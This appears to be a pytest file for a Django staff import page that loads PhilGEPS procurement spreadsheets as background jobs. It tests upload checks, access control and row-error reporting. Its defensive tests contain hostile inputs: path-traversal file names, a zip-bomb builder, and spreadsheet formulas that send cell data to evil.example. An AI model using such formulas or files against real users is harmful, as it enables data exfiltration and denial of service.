"""The staff import page and the `import` job kind, on the real PhilGEPS samples.

The page checks an upload in the request (size, type, header) and refuses a bad one with
a readable 400 that changes nothing; a good one is stored under a random name and runs
as a job whose result holds the import run's counts and first row errors.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from explorer.models import Award, ImportRun
from jobs import execution, maintenance, services
from jobs.kinds import imports
from jobs.kinds.base import JobCancelled, JobLost, Run
from jobs.models import Job, State
from tests.conftest import shared_file
from tests.explorer.test_importer import S1_HEADER, s1_row, v2_rows, write_xlsx
from tests.jobs.helpers import api_submit, fragment_attrs, messages_until, open_socket
from tests.services import wait_for

V2 = "philgeps-v2-2024q4-sample-200.csv"
V1 = "philgeps-v1-2023-sample-11.csv"
HTMX = {"HX-Request": "true"}


@pytest.fixture(autouse=True)
def upload_root(settings, tmp_path: Path) -> Path:
    settings.UPLOAD_ROOT = tmp_path / "uploads"
    return settings.UPLOAD_ROOT


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def upload(client, name: str, content: bytes, **headers: str):
    return client.post("/jobs/import/", {"file": SimpleUploadedFile(name, content)}, headers=headers)


def stored_uploads(root: Path) -> list[Path]:
    return sorted(root.iterdir()) if root.exists() else []


def store(root: Path, content: bytes, suffix: str = ".csv") -> str:
    """An upload as the page would have stored it (for runner tests that skip the page)."""
    root.mkdir(parents=True, exist_ok=True)
    name = f"{'ab' * 16}{suffix}"
    (root / name).write_bytes(content)
    return name


@pytest.mark.django_db
def test_a_real_sample_is_stored_under_a_random_name_and_queued_as_an_import_job(staff_client, upload_root):
    response = upload(staff_client, "../../etc/passwd.csv", shared_file(V2).read_bytes(), **HTMX)

    assert response.status_code == 201
    job = Job.objects.get()
    assert fragment_attrs(response.content.decode())["data-job-id"] == str(job.id)
    assert (job.kind, job.queue, job.state) == ("import", "bulk", State.QUEUED)
    [stored] = stored_uploads(upload_root)
    assert re.fullmatch(r"[0-9a-f]{32}\.csv", stored.name)
    assert job.params == {"upload": stored.name, "name": "passwd.csv"}  # Django keeps the base name only
    assert stored.read_bytes() == shared_file(V2).read_bytes()
    assert not ImportRun.objects.exists()  # nothing is imported in the request


@pytest.mark.django_db
def test_an_xlsx_in_the_2000s_layout_is_accepted(staff_client, tmp_path, upload_root):
    path = write_xlsx(tmp_path / "s1.xlsx", S1_HEADER, [s1_row()])

    response = upload(staff_client, "PhilGEPS 2014.xlsx", path.read_bytes(), **HTMX)

    assert response.status_code == 201
    assert Job.objects.get().params["name"] == "PhilGEPS 2014.xlsx"
    assert [p.suffix for p in stored_uploads(upload_root)] == [".xlsx"]


def latin1_csv() -> bytes:
    header, rows = v2_rows()
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows[:5]])
    return text.getvalue().encode("utf-8").replace("ñ".encode(), "ñ".encode("latin-1"))


def zip_without_workbook() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("notes.txt", "hello")
    return data.getvalue()


BAD_UPLOADS = [
    ("report.pdf", lambda: b"%PDF-1.4 ...", "is neither"),
    ("empty.csv", lambda: b"", "The file is empty."),
    ("areas.csv", lambda: shared_file("philgeps-areas.csv").read_bytes(), "not a PhilGEPS bid notice"),
    ("latin1.csv", latin1_csv, "not UTF-8"),
    ("old.xlsx", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 100, "old binary Excel (.xls)"),
    ("archive.xlsx", zip_without_workbook, "not an Excel workbook"),
    ("sheet.csv", zip_without_workbook, "does not match its name"),
    ("data.xlsx", lambda: shared_file(V1).read_bytes(), "does not match its name"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content", "reason"), BAD_UPLOADS, ids=[b[0] for b in BAD_UPLOADS])
@pytest.mark.parametrize("htmx", [True, False], ids=["htmx", "plain-form"])
def test_bad_uploads_are_refused_on_the_page_and_change_nothing(
    staff_client, upload_root, name, content, reason, htmx
):
    response = upload(staff_client, name, content(), **(HTMX if htmx else {}))

    assert response.status_code == 400
    assert reason in response.content.decode()
    assert not Job.objects.exists()
    assert not ImportRun.objects.exists()
    assert stored_uploads(upload_root) == []


@pytest.mark.django_db
def test_a_file_over_the_size_limit_is_refused_with_the_limit(staff_client, settings, upload_root):
    settings.IMPORT_MAX_UPLOAD_BYTES = 10_000
    response = upload(staff_client, "big.csv", shared_file(V2).read_bytes(), **HTMX)

    assert response.status_code == 400
    assert "the import page takes files up to 9.8\xa0KB" in response.content.decode()
    assert not Job.objects.exists()
    assert stored_uploads(upload_root) == []


@pytest.mark.django_db
def test_the_page_is_404_for_analysts_and_the_api_refuses_them_the_import_kind(client, alice, upload_root):
    client.force_login(alice)
    name = store(upload_root, shared_file(V1).read_bytes())

    assert client.get("/jobs/import/").status_code == 404
    assert upload(client, "v1.csv", shared_file(V1).read_bytes()).status_code == 404
    refused = api_submit(client, "import", upload=name, name="v1.csv")

    assert refused.status_code == 400
    assert "import" not in refused.json()["fields"]["kind"][0]
    assert not Job.objects.exists()
    assert "/jobs/import/" not in client.get("/jobs/").content.decode()


@pytest.mark.django_db
def test_staff_see_the_import_link_and_the_api_checks_the_upload_name(staff_client, upload_root):
    assert 'href="/jobs/import/"' in staff_client.get("/jobs/").content.decode()
    assert staff_client.get("/jobs/import/").status_code == 200

    traversal = api_submit(staff_client, "import", upload="../../config/settings.py", name="x.csv")
    missing = api_submit(staff_client, "import", upload=f"{'0' * 32}.csv", name="x.csv")

    assert "upload" in traversal.json()["fields"]
    assert "gone" in missing.json()["fields"]["upload"][0]
    assert not Job.objects.exists()


# --- The runner (in this process: both database passes) ------------------------------


def run_inline(job: Job) -> Job:
    execution.execute(str(job.id), redelivered=False, worker="inline")
    job.refresh_from_db()
    return job


@pytest.mark.django_db(transaction=True)
def test_the_import_job_reports_counts_and_row_errors_and_deletes_the_upload(staff, upload_root):
    header, rows = v2_rows()
    rows[4][header.index("Award Date")] = "31/02/2024"
    rows[12][header.index("Contract Amount")] = "about 5 million"
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([header, *rows])
    name = store(upload_root, text.getvalue().encode())
    job, _ = services.submit_job(user=staff, kind="import", params={"upload": name, "name": "q4.csv"})

    job = run_inline(job)

    assert job.state == State.SUCCEEDED, job.error
    run = ImportRun.objects.get()
    assert (run.source_name, run.rows_read, run.rows_failed) == ("q4.csv", 200, 2)
    assert job.result["import_run"] == run.pk
    assert {k: job.result[k] for k in imports.COUNTS} == {k: getattr(run, k) for k in imports.COUNTS}
    assert job.result["awards_new"] == Award.objects.count() > 100
    assert job.result["errors"] == [
        {"line": 6, "reason": "Award Date: '31/02/2024' is not a date (expected DD/MM/YYYY)"},
        {"line": 14, "reason": "Contract Amount: 'about 5 million' is not an amount"},
    ]
    assert (job.progress_done, job.progress_total) == (200, 200)
    assert stored_uploads(upload_root) == []


@pytest.mark.django_db(transaction=True)
def test_the_job_page_shows_the_counts_and_the_refused_rows(staff_client, staff, upload_root):
    header, rows = v2_rows()
    rows[1][header.index("Procuring Entity (PE)")] = "NULL"
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([header, *rows[:30]])
    job, _ = services.submit_job(
        user=staff,
        kind="import",
        params={"upload": store(upload_root, text.getvalue().encode()), "name": "x.csv"},
    )
    run_inline(job)

    page = staff_client.get(job.get_absolute_url()).content.decode()

    assert 'data-count="rows_read">30<' in page
    assert 'data-count="rows_failed">1<' in page
    assert "Procuring Entity is empty" in page
    assert "Done: 30 rows read, 1 refused" in page


@pytest.mark.django_db(transaction=True)
def test_a_file_the_full_check_refuses_fails_the_job_in_plain_words(staff, upload_root):
    name = store(upload_root, shared_file("philgeps-areas.csv").read_bytes())
    job, _ = services.submit_job(user=staff, kind="import", params={"upload": name, "name": "areas.csv"})

    job = run_inline(job)

    assert job.state == State.FAILED
    assert job.error.startswith("The file was refused: This is not a PhilGEPS bid notice and award file")
    assert not Award.objects.exists()
    assert stored_uploads(upload_root) == []


class StopOnRows:
    """A reporter that raises `error` at the first progress report with rows in it."""

    def __init__(self, error: Exception) -> None:
        self.error = error

    def update(self, done: int | None = None, **kwargs: object) -> None:
        if done:
            raise self.error


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(("error", "kept"), [(JobCancelled(), False), (JobLost(), True)])
def test_a_stopped_import_ends_its_run_and_keeps_the_upload_only_for_a_takeover(
    staff, upload_root, error, kept
):
    name = store(upload_root, shared_file(V2).read_bytes())
    job, _ = services.submit_job(user=staff, kind="import", params={"upload": name, "name": "q4.csv"})

    with pytest.raises(type(error)):
        imports.run_import(Run(job=job, reporter=StopOnRows(error)))

    run = ImportRun.objects.get()
    assert (run.status, run.message) == (ImportRun.Status.FAILED, "Stopped before the end of the file.")
    assert (upload_root / name).exists() is kept


@pytest.mark.django_db
def test_orphaned_uploads_are_removed_and_pending_ones_kept(staff, upload_root):
    pending = store(upload_root, shared_file(V1).read_bytes())
    services.submit_job(user=staff, kind="import", params={"upload": pending, "name": "v1.csv"})
    orphan = upload_root / f"{'cd' * 16}.csv"
    orphan.write_bytes(b"left behind")

    assert maintenance.remove_orphaned_uploads(older_than=0) == 1
    assert [p.name for p in stored_uploads(upload_root)] == [pending]


# --- On the real services: a celery worker imports while the socket shows progress ----


@pytest.mark.services
def test_an_upload_is_imported_by_a_real_worker_with_progress_over_the_socket(
    upload_root, worker, daphne, client, staff
):
    client.force_login(staff)
    with open_socket(daphne, client) as socket:
        response = upload(client, "q4.csv", shared_file(V2).read_bytes(), **HTMX)
        job_id = fragment_attrs(response.content.decode())["data-job-id"]
        seen = [m for m in messages_until(socket, job_id, state="succeeded") if m["data-job-id"] == job_id]

    assert {"running", "succeeded"} <= {m["data-state"] for m in seen}
    job = Job.objects.get(pk=job_id)
    assert (job.result["rows_read"], job.result["awards_new"]) == (200, 144)
    assert Award.objects.count() == 144
    assert (job.progress_done, job.progress_total, job.attempts) == (200, 200, 1)
    wait_for(lambda: stored_uploads(upload_root) == [], what="the upload to be deleted")
    page = client.get(f"/jobs/{job_id}/").content.decode()
    assert 'data-count="awards_new">144<' in page


# --- Hostile files (issue 8, item 12) -------------------------------------------------


def zip_bomb(tmp_path: Path) -> bytes:
    """A real PhilGEPS workbook carrying one part that inflates 11 MB from a few KB."""
    path = write_xlsx(tmp_path / "bomb.xlsx", S1_HEADER, [s1_row()])
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.png", b"\0" * (11 * 1024 * 1024))
    return path.read_bytes()


def csv_with_a_huge_field(at_row: int) -> bytes:
    header, rows = v2_rows()
    rows = [list(row) for row in rows[:30]]
    rows[at_row - 1][header.index("Award Title")] = "x" * 200_000  # twice the field limit
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    return text.getvalue().encode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("bomb.xlsx", zip_bomb, "refused as a possible zip bomb"),
        ("huge.csv", lambda _: csv_with_a_huge_field(at_row=2), "cannot be read as CSV (field larger than"),
        ("one-line.csv", lambda _: b"x," * (2 * 1024 * 1024), "hold no line break"),
    ],
    ids=["zip-bomb", "huge-field", "huge-line"],
)
def test_hostile_files_are_refused_at_upload_and_change_nothing(
    staff_client, upload_root, tmp_path, name, content, reason
):
    response = upload(staff_client, name, content(tmp_path), **HTMX)

    assert response.status_code == 400
    assert reason in response.content.decode()
    assert not Job.objects.exists()
    assert not ImportRun.objects.exists()
    assert stored_uploads(upload_root) == []


@pytest.mark.django_db(transaction=True)
def test_a_huge_field_past_the_quick_check_fails_the_import_before_anything_is_written(staff, upload_root):
    name = store(upload_root, csv_with_a_huge_field(at_row=25))
    job, _ = services.submit_job(user=staff, kind="import", params={"upload": name, "name": "huge.csv"})

    job = run_inline(job)

    assert job.state == State.FAILED
    assert "Line 26 cannot be read as CSV (field larger than field limit" in job.error
    assert not Award.objects.exists()
    assert stored_uploads(upload_root) == []


@pytest.mark.django_db(transaction=True)
def test_formulas_and_external_links_in_a_workbook_are_never_evaluated_or_stored(
    staff_client, upload_root, tmp_path
):
    evil = {
        "Notice Title": '=HYPERLINK("http://evil.example/steal?"&A1,"Click")',
        "Awardee Corporate Title": "='http://evil.example/[book.xlsx]Sheet1'!A1",
        "Award Title": '=WEBSERVICE("http://evil.example/ping")',
    }
    rows = [s1_row(), s1_row(**{"Reference ID": 2145679}, **evil)]
    path = write_xlsx(tmp_path / "formulas.xlsx", S1_HEADER, rows)
    response = upload(staff_client, "formulas.xlsx", path.read_bytes(), **HTMX)
    assert response.status_code == 201

    job = run_inline(Job.objects.get())

    assert job.state == State.SUCCEEDED, job.error
    # Cells are read as their cached values (none here), never as formulas to run.
    stored = [
        *Award.objects.values_list("title", flat=True),
        *Award.objects.values_list("supplier__name", flat=True),
        *Award.objects.values_list("notice__title", flat=True),
    ]
    assert stored
    assert not [text for text in stored if text and ("=" in text[:1] or "evil.example" in text)]
